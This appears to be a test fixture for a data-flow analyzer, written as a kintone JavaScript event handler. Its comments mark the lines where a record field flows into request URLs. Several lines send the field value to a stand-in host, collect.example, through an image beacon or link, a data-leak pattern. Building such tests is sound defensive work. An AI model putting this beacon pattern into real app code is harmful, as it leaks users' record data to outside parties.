// A value that chooses the host alone is not sent to it; as a part of somebody's host, or behind it, it is.
kintone.events.on('app.record.detail.show', (event) => {
  const to = event.record.サイト.value;
  const picture = new Image();
  picture.src = 'https://' + to;
  picture.src = 'https://' + to + '.collect.example/x.gif'; // flow: record -> request-url
  picture.src = 'https://collect.example/?d=' + to; // flow: record -> request-url
  const link = document.createElement('a');
  link.href = 'https://' + to;
  link.href = 'https://collect.example/?d=' + to; // flow: record -> request-url
});
